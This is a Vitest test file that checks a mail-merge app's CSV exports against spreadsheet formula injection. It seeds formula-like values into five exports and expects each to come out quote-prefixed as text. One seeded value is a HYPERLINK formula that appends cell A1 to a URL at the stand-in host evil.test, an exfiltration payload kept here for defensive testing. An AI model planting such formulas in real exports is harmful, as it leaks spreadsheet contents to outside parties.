/**
 * Spreadsheets never run exported cells (issue 13): every CSV export writes
 * a text that starts like a formula (=, +, -, @) with a leading quote, so it
 * opens as text. Each export gets a stored value starting with one of them.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loader as bouncesCsvLoader } from "~/routes/$workspaceId.$workspaceSlug+/bounces[.csv]";
import { loader as scheduledCsvLoader } from "~/routes/$workspaceId.$workspaceSlug+/mail-merges+/scheduled[.csv]";
import { loader as sentCsvLoader } from "~/routes/$workspaceId.$workspaceSlug+/mail-merges+/sent[.csv]";
import { loader as teamReportCsvLoader } from "~/routes/$workspaceId.$workspaceSlug+/team-report[.csv]";
import { loader as unsubscriptionsCsvLoader } from "~/routes/$workspaceId.$workspaceSlug+/unsubscriptions[.csv]";
import { PERSONAS, SPACES } from "../../../backend/src/db/seed/personas";
import type { RunningBackend } from "../support/backend";
import { firstOwnCampaign, markRecipient } from "../support/hostile-markers";
import { appRequest, run, signIn, startAppBackend } from "../support/app";
import { parseCsv } from "../../support/csv";

type Space = { workspaceId: string; workspaceSlug: string };
const ACME: Space = { workspaceId: SPACES.acmeMarketing.id, workspaceSlug: SPACES.acmeMarketing.slug };
const SAMS: Space = { workspaceId: SPACES.samsSpace.id, workspaceSlug: SPACES.samsSpace.slug };
const prefix = (space: Space) => `/${space.workspaceId}/${space.workspaceSlug}`;

const HOSTILE = {
  sent: '=HYPERLINK("http://evil.test/?"&A1,"csvsent")',
  scheduled: "+csvsched+1",
  unsubscription: "-csvunsub@example.com",
  bounce: "+csvbounce@example.com",
  member: "@SUM(csvteam)",
};

let backend: RunningBackend;
const cookies: Record<string, string> = {};

beforeAll(async () => {
  backend = await startAppBackend();
  for (const person of [PERSONAS.owner, PERSONAS.solo]) cookies[person.email] = (await signIn(backend, person.email)).cookie;
  const firstOwn = (table: "sent_campaigns" | "scheduled_campaigns") =>
    firstOwnCampaign(backend, table, ACME.workspaceId, PERSONAS.owner.id);
  const sent = await firstOwn("sent_campaigns");
  // Updated now, so the Sent tab's default range holds it.
  await backend.db
    .updateTable("sent_campaigns")
    .set({ spreadsheet_name: HOSTILE.sent, last_update_timestamp: Date.now() })
    .where("id", "=", sent.id)
    .execute();
  const scheduled = await firstOwn("scheduled_campaigns");
  await backend.db.updateTable("scheduled_campaigns").set({ spreadsheet_name: HOSTILE.scheduled }).where("id", "=", scheduled.id).execute();
  await markRecipient(backend, "unsubscriptions", ACME.workspaceId, PERSONAS.owner.id, HOSTILE.unsubscription);
  await markRecipient(backend, "bounces", SAMS.workspaceId, PERSONAS.solo.id, HOSTILE.bounce);
  await backend.db.updateTable("users").set({ name: HOSTILE.member }).where("id", "=", PERSONAS.benBaker.id).execute();
});
afterAll(() => backend?.close());

const EXPORTS = [
  { name: "sent", loader: sentCsvLoader, path: `${prefix(ACME)}/mail-merges/sent.csv?q=csvsent`, space: ACME, email: PERSONAS.owner.email, value: HOSTILE.sent },
  { name: "scheduled", loader: scheduledCsvLoader, path: `${prefix(ACME)}/mail-merges/scheduled.csv?q=csvsched`, space: ACME, email: PERSONAS.owner.email, value: HOSTILE.scheduled },
  { name: "unsubscriptions", loader: unsubscriptionsCsvLoader, path: `${prefix(ACME)}/unsubscriptions.csv?q=csvunsub`, space: ACME, email: PERSONAS.owner.email, value: HOSTILE.unsubscription },
  { name: "bounces", loader: bouncesCsvLoader, path: `${prefix(SAMS)}/bounces.csv?q=csvbounce`, space: SAMS, email: PERSONAS.solo.email, value: HOSTILE.bounce },
  { name: "team report", loader: teamReportCsvLoader, path: `${prefix(ACME)}/team-report.csv?q=csvteam`, space: ACME, email: PERSONAS.owner.email, value: HOSTILE.member },
];

describe.each(EXPORTS)("the $name export", ({ loader, path, space, email, value }) => {
  it(`writes ${JSON.stringify(value.slice(0, 12))}… as text, with a leading quote`, async () => {
    const outcome = await run(loader, appRequest(path, { cookie: cookies[email] }), space);
    const response = (outcome.response ?? outcome.result) as Response;
    expect(response.status).toBe(200);
    const [, ...records] = parseCsv((await response.text()).replace(/^\uFEFF/, ""));
    const cells = records.flat();
    expect(cells.some((cell) => cell.startsWith(`'${value}`))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
